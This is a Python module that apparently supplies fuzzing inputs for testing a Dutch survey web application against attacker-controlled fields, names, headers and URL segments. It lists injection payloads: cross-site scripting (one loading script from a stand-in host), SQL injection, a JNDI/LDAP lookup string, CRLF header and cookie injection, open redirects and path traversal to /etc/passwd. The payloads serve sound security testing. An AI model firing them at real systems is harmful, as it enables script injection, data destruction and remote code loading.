"""What an attacker writes: in fields, names, headers, cookies and addresses."""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import Final

# Stands in everything that an attacker writes, so that it is found back wherever it comes out.
MARK: Final = "zqxmark"

TEXTS: Final = (
    "",
    " ",
    "\x00",
    f"{MARK}\x00na een nul",
    f"<script>alert('{MARK}')</script>",
    f'"><script src=//kwaad.example/{MARK}.js></script>',
    f"'\"><img src=x onerror=alert(/{MARK}/)>",
    f"</textarea><svg/onload={MARK}()>",
    f"</title></style><iframe srcdoc='{MARK}'>",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<script>{MARK}</script>",
    f"{{{{ {MARK} * 7 }}}}{{% raw %}}",
    f"%({MARK})s %s %n ${{jndi:ldap://kwaad.example/{MARK}}}",
    f"'; DROP TABLE draft; -- {MARK}",
    f"' OR '1'='1' {MARK}",
    f"{MARK}\r\nSet-Cookie: ceo_toegang=gestolen\r\n\r\n<html>",
    f"\n{MARK}\nlocation: //kwaad.example",
    f"//kwaad.example/{MARK}",
    "https://kwaad.example/",
    "\\\\kwaad.example\\",
    f"../../../etc/passwd{MARK}",
    f"\u202e{MARK}\u202d\u2066\u200f\ufeff",
    f"{MARK}\ud800\udfff",
    "\ud800",
    "\U0010ffff\ufffe\uffff",
    f"{'é' * 400}{MARK}",
    f"{MARK}{'a' * 6000}",
    "a\u0301" * 500,
    "😀" * 700,
    "9" * 400,
    "-1",
    "0",
    "1",
    "7",
    "10",
    "3,5",
    "1e309",
    "NaN",
    "٣",
    "²",
    "true",
    "null",
    "[]",
    "ja",
    "nee",
    "eens",
    "999999999999999999999",
    "2026-02-30",
    "31",
    "12",
    "0000",
    '{"a":' * 200,
    "[" * 3000,
)
NAMES: Final = (
    "versie",
    "vanaf",
    "actie",
    "klopt",
    "taal",
    "lezen",
    "terug",
    "code",
    "__proto__",
    "municipality",
    "respondent",
    "consents",
    "a[b][c]",
    "",
    "\x00",
    f"<b onclick={MARK}>",
    "é" * 300,
    "\ud800",
)
ACTIONS: Final = ("verder", "overslaan", "stoppen", "controle", "versturen")
LANGUAGES: Final = ("nl", "en", "ar", "tr", "xx", "../nl", "")
# In an address these are escapes already, or are escaped on the way.
SEGMENTS: Final = (
    "%2e%2e%2f%2e%2e",
    "..%5c..",
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "%0d%0aSet-Cookie:%20a=b",
    "%252e%252e",
    ".",
    "..",
    "a%2fb",
    "~",
    "*",
    "%3Cscript%3E",
    "%E2%80%AE",
    "x" * 3000,
    "Infinity",
    "-0",
)


def text(chance: random.Random) -> str:
    """Return one strange text, now and then two after each other."""
    one = chance.choice(TEXTS)
    return one + chance.choice(TEXTS) if chance.random() < 0.1 else one


def name(chance: random.Random, known: Sequence[str]) -> str:
    """Return the name of a field: mostly one that a page has."""
    return chance.choice(known) if known and chance.random() < 0.7 else chance.choice(NAMES)


def row_version(chance: random.Random, shown: str) -> str:
    """Return a version for a form: the one that was shown, one beside it, or nonsense."""
    beside = [str(int(shown) + step) for step in (-1, 1)] if shown.isdecimal() else []
    return chance.choice([shown, *beside, *TEXTS])
